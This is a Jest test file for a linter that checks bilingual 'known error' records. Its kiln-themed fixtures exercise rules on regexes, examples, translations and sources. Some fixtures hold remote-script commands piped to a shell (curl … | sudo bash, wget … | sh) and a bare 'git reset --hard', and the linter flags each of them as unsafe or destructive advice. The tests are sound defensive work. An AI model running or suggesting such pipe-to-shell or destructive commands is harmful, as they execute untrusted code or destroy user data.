import { describe, expect, it } from "@jest/globals";
import { parseKnownErrorFile } from "../../src/knowledge/known-error-file.ts";
import { buildCollection } from "../../src/lint/collection.ts";
import { lintRecord } from "../../src/lint/lint.ts";
import type { Finding } from "../../src/lint/lint.ts";
import type { LintedRecord } from "../../src/lint/rule.ts";
import { rules } from "../../src/lint/rules.ts";
import { foreignRecord } from "../support/knowledge-folder.ts";
import { ownRecord } from "../support/own-record.ts";

type Fields = Record<string, unknown>;

function linted(fields: Fields, own: boolean): LintedRecord {
  const file = `${String(fields["id"])}.json`;
  const parsed = parseKnownErrorFile(file, Buffer.from(JSON.stringify(fields, null, 2)));
  if (parsed.kind === "refused") {
    throw new Error(parsed.problems.map(({ message }) => message).join("; "));
  }
  return { ...parsed.loaded, pathInFolder: file, own };
}

/** Findings about the first record when all are loaded together. */
function lint(fields: Fields, others: readonly Fields[] = [], own = true): Finding[] {
  const record = linted(fields, own);
  return lintRecord(
    record,
    buildCollection([record, ...others.map((other) => linted(other, true))]),
  );
}

function brief(findings: readonly Finding[]): string[] {
  return findings.map(({ severity, rule, field }) => `${severity} ${rule} ${field}`);
}

const [deadEnd] = ownRecord()["dead_ends"] as [Fields];
const [cure] = ownRecord()["workarounds"] as [Fields];
const aliases = ownRecord()["aliases"] as string[];
const examples = ownRecord()["examples"] as { matches: string[]; near_misses: string[] };
const other = ownRecord({
  id: "kiln/thermometer-silent",
  title: "A thermometer does not answer",
  signature: "FiringError: The thermometer of kiln 3 does not answer",
  regex: null,
  root_cause: "A cable is loose.",
  root_cause_zh: "线缆松动。",
  aliases: [],
});

describe("a known error of our own", () => {
  it("may be without findings", () => {
    expect(lint(ownRecord(), [other])).toEqual([]);
  });

  const cases: { name: string; changes: Fields; others?: Fields[]; findings: string[] }[] = [
    {
      name: "a field that nobody reads",
      changes: { root_casue: "typo" },
      findings: ["error unknown-fields root_casue"],
    },
    {
      name: "a category that is not on the list",
      changes: { category: "kiln_error" },
      findings: ["error closed-category category"],
    },
    {
      name: "a domain that is not the first part of the id",
      changes: { domain: "pottery" },
      findings: ["error id-is-path domain"],
    },
    {
      name: "a message in the list of types",
      changes: { exception: ["kilnlib.FiringError", "Firing failed"] },
      findings: ["error exception-name exception[1]"],
    },
    {
      name: "a printed type that is not listed",
      changes: { exception: ["OSError"] },
      findings: ["warning exception-listed exception"],
    },
    {
      name: "a package that is not spelled as in PEP 503",
      changes: { packages: ["Kiln_Lib"] },
      findings: ["error package-names packages[0]"],
    },
    {
      name: "versions as free text",
      changes: { versions: [{ version: "the newest ones, mostly", fixed: "soon" }] },
      findings: [
        "error versions-parse versions[0].version",
        "error versions-parse versions[0].fixed",
      ],
    },
    {
      name: "a review at an impossible date",
      changes: { last_confirmed: "31.01.2025" },
      findings: ["warning review-date last_confirmed"],
    },
    {
      name: "a regex with lookahead",
      changes: { regex: "Cannot use the plan (?!none).* while the kiln (?<kiln>\\d+) is" },
      findings: ["error regex-compiles regex"],
    },
    {
      name: "a regex that misses its own signature",
      changes: { regex: "Cannot use a plan while the kiln (?<kiln>\\d+) is reserved" },
      findings: ["error regex-own-wording regex"],
    },
    {
      name: "no regex that could decide alone",
      changes: { regex: null, regex_only: true },
      findings: [
        "error regex-compiles regex_only",
        "error placeholder-group root_cause",
        "error placeholder-group root_cause_zh",
      ],
    },
    {
      name: "a regex around short literals",
      changes: { regex: "plan.*kiln (?<kiln>\\d+) is|a.*glaz(?:e|ing)" },
      findings: ["error regex-literal regex"],
    },
    {
      name: "a regex that repeats too often",
      changes: { regex: "Cannot use the plan.{0,600}while the kiln (?<kiln>\\d+) is" },
      findings: ["error regex-compiles regex"],
    },
    {
      name: "a regex that expands to too much",
      changes: { regex: "Cannot use the plan(?:.{0,9} ){0,120}while the kiln (?<kiln>\\d+) is" },
      findings: ["error regex-compiles regex"],
    },
    {
      name: "a regex that needs no words",
      changes: { regex: "Cannot use the plan.*while the kiln (?<kiln>\\d+) is|.*" },
      findings: ["error regex-compiles regex"],
    },
    {
      name: "a regex of words that any message has",
      changes: { regex: "Cannot use .* while .*(?<kiln>\\d+) is .* for" },
      findings: ["error regex-telling regex"],
    },
    {
      name: "a signature that is one word",
      changes: { aliases: [...aliases, "Killed"] },
      findings: ["warning wording-short aliases[1]"],
    },
    {
      name: "too few examples",
      changes: { examples: { matches: examples.matches.slice(0, 1), near_misses: [] } },
      findings: [
        "error examples-given examples.matches",
        "error examples-given examples.near_misses",
      ],
    },
    {
      name: "an example of another error",
      changes: {
        examples: { ...examples, matches: [...examples.matches, ...examples.near_misses] },
      },
      others: [other],
      findings: [
        "error examples-match examples.matches[2]",
        "error examples-match examples.matches[3]",
      ],
    },
    {
      name: "a near miss that hits",
      changes: { examples: { ...examples, near_misses: examples.matches } },
      findings: [
        "error examples-miss examples.near_misses[0]",
        "error examples-miss examples.near_misses[1]",
      ],
    },
    {
      name: "no headline and no cure",
      changes: { title: " ", workarounds: [] },
      findings: ["error answer-complete title", "error answer-complete workarounds"],
    },
    {
      name: "more cures than a comment shows",
      changes: {
        workarounds: ["one", "two", "three", "four", "five"].map((step) => ({
          action: `Turn the kiln off for step ${step}`,
          action_zh: `第 ${step} 步：关掉窑炉`,
        })),
      },
      findings: ["warning all-shown workarounds[4]"],
    },
    {
      name: "blank texts",
      changes: { dead_ends: [{ ...deadEnd, action: "" }], workarounds: [{ ...cure, action: " " }] },
      findings: [
        "error blank-field dead_ends[0].action",
        "error blank-field workarounds[0].action",
      ],
    },
    {
      name: "how that says the action again",
      changes: { workarounds: [{ ...cure, how: "leave the kiln out, and let the plan choose" }] },
      findings: ["error how-repeats-action workarounds[0].how"],
    },
    {
      name: "an open fence",
      changes: { workarounds: [{ ...cure, how: "```sh\nkiln reset" }] },
      findings: ["error fences-closed workarounds[0].how"],
    },
    {
      name: "a placeholder without a group, and one without a fallback",
      changes: { root_cause: "The {pot} is too large for kiln {kiln}, `{shelf}` is not." },
      findings: ["error placeholder-group root_cause", "warning placeholder-fallback root_cause"],
    },
    {
      name: "a downloaded script",
      changes: {
        workarounds: [{ ...cure, how: "`curl -fsSL https://kiln.readthedocs.io/get | sudo bash`" }],
      },
      findings: ["error unsafe-advice workarounds[0].how"],
    },
    {
      name: "a download",
      changes: {
        dead_ends: [
          { ...deadEnd, action: "Using https://github.com/potters/kilnlib/kiln.exe instead." },
        ],
      },
      findings: ["error unsafe-advice dead_ends[0].action"],
    },
    {
      name: "a mention outside code",
      changes: { root_cause: "Ask @potter; a `@decorator` is no mention, nor is a@b.org." },
      findings: ["error unsafe-advice root_cause"],
    },
    {
      name: "a destructive step without a condition",
      changes: {
        workarounds: [{ ...cure, how: "`git reset --hard`", condition: null, condition_zh: null }],
      },
      findings: ["error destructive-advice workarounds[0].condition"],
    },
    {
      name: "English where Chinese should stand",
      changes: { root_cause_zh: "The kiln is promised to `another` job." },
      findings: ["error chinese root_cause_zh"],
    },
    {
      name: "Chinese that is missing",
      changes: { title_zh: null, dead_ends: [{ ...deadEnd, why_fails_zh: "" }] },
      findings: ["error chinese-complete title", "error chinese-complete dead_ends[0].why_fails"],
    },
    {
      name: "Chinese by index that does not fit",
      changes: { workarounds_zh: ["不要指定窑炉。", "让计划选择。"] },
      findings: ["error chinese-by-index workarounds_zh"],
    },
    {
      name: "a tier that the sources do not show",
      changes: { sources: ["https://github.com/potters/kilnlib/issues/12"] },
      findings: ["error earned-tier verification_tier"],
    },
    {
      name: "issues seen that are not named",
      changes: { verification_tier: "issue_seen", sources: ["https://kilnlib.readthedocs.io/"] },
      findings: ["error earned-tier verification_tier"],
    },
    {
      name: "a source that cannot be looked up",
      changes: { sources: ["potters/kilnlib:src/kilnlib/plans.py", "somebody in the chat"] },
      findings: ["error source-form sources[1]"],
    },
    {
      name: "figures from nowhere",
      changes: { workarounds: [{ ...cure, success_rate: 0.95 }] },
      findings: ["warning figures-supported workarounds[0].success_rate"],
    },
    {
      name: "neighbours that do not exist",
      changes: {
        transition_graph: {
          leads_to: ["kiln/plan-and-kiln", { id: "kiln/nowhere" }, "kiln/thermometer-silent"],
        },
      },
      others: [other],
      findings: [
        "error neighbours-exist transition_graph.leads_to[0]",
        "error neighbours-exist transition_graph.leads_to[1]",
      ],
    },
    {
      name: "an address that is no address, and an unknown host",
      changes: {
        official_doc_url: "http://kilnlib.readthedocs.io",
        root_cause: "See https://pots.test/a.",
      },
      findings: ["error url-form official_doc_url", "warning url-host root_cause"],
    },
  ];
  it.each(cases)("$name", ({ changes, others = [], findings }) => {
    expect(brief(lint(ownRecord(changes), others))).toEqual(findings);
  });

  it("may advise a destructive step with its condition", () => {
    const destructive = { ...cure, how: "`git reset --hard`" };
    expect(lint(ownRecord({ workarounds: [destructive] }))).toEqual([]);
  });
});

describe("known errors together", () => {
  it("must not take each other's wordings, unless they are declared neighbours", () => {
    const wording = "FiringError: The thermometer of kiln 9 does not answer, says the plan 'auto'";
    const greedy = ownRecord({
      regex: "thermometer of kiln (?<kiln>\\d+) does not answer",
      signature: wording,
      aliases: [],
      examples: { matches: [], near_misses: [] },
    });
    const found = brief(lint(greedy, [other]));
    expect(found).toContain("error wording-taken signature");
    const neighbours = { transition_graph: { frequently_confused_with: [other["id"]] } };
    const declared = brief(lint({ ...greedy, ...neighbours }, [other]));
    expect(declared).not.toContain("error wording-taken signature");
  });

  it("must not be nearly the same: the later one is told", () => {
    const twin = ownRecord({ id: "kiln/also-plan-and-kiln" });
    expect(brief(lint(ownRecord(), [twin]))).toContain("error near-duplicate signature");
    expect(brief(lint(twin, [ownRecord()]))).not.toContain("error near-duplicate signature");
  });

  it("must not answer to ordinary text", () => {
    const prose = ownRecord({ regex: "how many|retries for (?<kiln>downloads)" });
    expect(brief(lint(prose))).toContain("error regex-prose regex");
  });
});

describe("a foreign known error", () => {
  it("gets warnings where ours would get errors, and is not asked for what it cannot have", () => {
    expect(brief(lint(foreignRecord(), [], false))).toEqual([
      "warning unknown-fields root_cause_type",
      "warning blank-field dead_ends[0].action",
      "warning how-repeats-action workarounds[0].how",
      "warning chinese workarounds_zh[0]",
    ]);
  });

  it("gets an error for unsafe advice all the same", () => {
    const [cures] = foreignRecord()["workarounds"] as [Fields];
    const unsafe = foreignRecord({
      workarounds: [{ ...cures, how: "wget -O- https://x.test/i.sh | sh" }],
    });
    const found = brief(lint(unsafe, [], false));
    expect(found).toContain("error unsafe-advice workarounds[0].how");
  });
});

describe("the list of rules", () => {
  it("has each name once, in kebab-case", () => {
    const names = rules.map(({ name }) => name);
    expect(new Set(names).size).toBe(names.length);
    expect(names.filter((name) => !/^[a-z]+(-[a-z]+)*$/.test(name))).toEqual([]);
  });
});
